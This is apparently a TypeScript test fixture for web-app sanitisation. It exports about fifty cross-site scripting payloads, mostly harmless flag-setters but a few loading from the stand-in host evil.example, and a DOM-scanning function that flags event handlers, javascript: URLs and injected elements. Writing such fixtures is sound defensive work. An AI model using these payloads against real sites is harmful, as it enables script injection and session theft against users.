/** Sets a flag when it runs, in any of the ways a text can become a script in a page. */
const RAN = 'window.__ran=(window.__ran||0)+1'

/** Texts that would run, load or lead somewhere if a page took them for anything but text. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  `<script>${RAN}</script>`,
  `"><script>${RAN}</script>`,
  `'><script>${RAN}</script>`,
  `</title><script>${RAN}</script>`,
  `</textarea><script>${RAN}</script>`,
  `</script><script>${RAN}</script>`,
  `</style><script>${RAN}</script>`,
  `--><script>${RAN}</script>`,
  `]]><script>${RAN}</script>`,
  `<ScRiPt>${RAN}</sCrIpT>`,
  `<script/x>${RAN}</script>`,
  `<script type="module">${RAN}</script>`,
  '<script src="data:text/javascript,window.__ran=1"></script>',
  '<script src="//evil.example/x.js"></script>',
  `<img src=x onerror="${RAN}">`,
  `<img src=x onerror=${RAN}>`,
  `"><img src=x onerror="${RAN}">`,
  `<img/src=x/onerror=${RAN}>`,
  `<svg onload="${RAN}">`,
  `<svg/onload=${RAN}>`,
  `<svg><script>${RAN}</script></svg>`,
  `<svg><animate onbegin="${RAN}" attributeName=x dur=1s>`,
  `<body onload="${RAN}">`,
  `<input autofocus onfocus="${RAN}">`,
  `<select autofocus onfocus="${RAN}">`,
  `<details open ontoggle="${RAN}">x</details>`,
  `<video><source onerror="${RAN}"></video>`,
  `<audio src=x onerror="${RAN}">`,
  `<marquee onstart="${RAN}">x</marquee>`,
  `<div style="animation-name:spin" onanimationstart="${RAN}">x</div>`,
  `<iframe srcdoc="<script>parent.${RAN.replace('window', 'parent')}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RAN.replace('window.', '')}"></iframe>`,
  `<object data="javascript:${RAN}"></object>`,
  '<embed src="data:text/html,<script>parent.__ran=1</script>">',
  `<a href="javascript:${RAN}">x</a>`,
  `<a href="jAvAsCrIpT&colon;${RAN}">x</a>`,
  `<form action="javascript:${RAN}"><button>x</button></form>`,
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__ran=1">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  `<math><mtext></mtext><img src=x onerror="${RAN}"></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RAN}>">`,
  `<template><script>${RAN}</script></template>`,
  `" autofocus onfocus="${RAN}" x="`,
  `' autofocus onfocus='${RAN}' x='`,
  `javascript:${RAN}`,
  ` javascript:${RAN}//`,
  `\${${RAN}}`,
  `{{constructor.constructor('${RAN}')()}}`,
  `\\u003cscript\\u003e${RAN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RAN}&lt;/script&gt;`,
  `＜script＞${RAN}＜/script＞`,
]

/** What a page has in its tree, or did, that only a text taken for markup puts there; run inside the page. */
export function foundInPage(): string[] {
  const found: string[] = []
  const marks: Record<string, unknown> = { ...window }
  if (marks.__ran !== undefined) found.push(`a script ran ${String(marks.__ran)} times`)
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) found.push(`${element.tagName} has ${name}`)
      if (/^\s*(javascript|vbscript):|^data:text/i.test(value) && /^(href|src|action|formaction|data|srcdoc)$/i.test(name))
        found.push(`${element.tagName} ${name} leads to ${value.slice(0, 60)}`)
    }
  }
  const alien = 'iframe, object, embed, base, marquee, meta[http-equiv=refresh], [src*="evil.example"], [href*="evil.example"]'
  for (const element of document.querySelectorAll(alien)) found.push(`there is ${element.outerHTML.slice(0, 80)}`)
  return found
}
